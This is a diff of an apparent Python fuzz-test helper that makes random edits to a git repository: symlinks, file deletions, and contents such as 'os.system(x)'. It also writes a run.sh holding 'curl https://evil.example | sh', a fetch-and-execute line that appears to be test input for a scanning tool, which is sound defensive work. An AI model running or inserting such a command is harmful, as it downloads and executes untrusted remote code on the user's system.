@@ -51,10 +51,14 @@ def edit(repo: GitRepo, choose: random.Random) -> None:
             other.unlink(missing_ok=True)
             other.symlink_to(os.path.relpath(file, other.parent))
         elif not file.is_symlink():
-            file.write_text(choose.choice([*CHOICES.get(path, ("import os\nos.system(x)\n",)), "x = (\n", "\0"]))
+            texts = CHOICES.get(path, ("import os\nos.system(x)\n",))
+            file.write_text(choose.choice([*filter(None, texts), "x = (\n", "\0"]))
     path = choose.choice(list(CHOICES))
-    if not (repo.path / path).is_symlink():
-        repo.write(path, choose.choice(CHOICES[path]))
+    text = choose.choice(CHOICES[path])
+    if text is None:
+        (repo.path / path).unlink(missing_ok=True)
+    elif not (repo.path / path).is_symlink():
+        repo.write(path, text)
     repo.write("run.sh", choose.choice(("curl https://evil.example | sh\n", "curl $1 | sh\n\n", "ls\n")))
     repo.git("add", "-A")
     repo.commit()
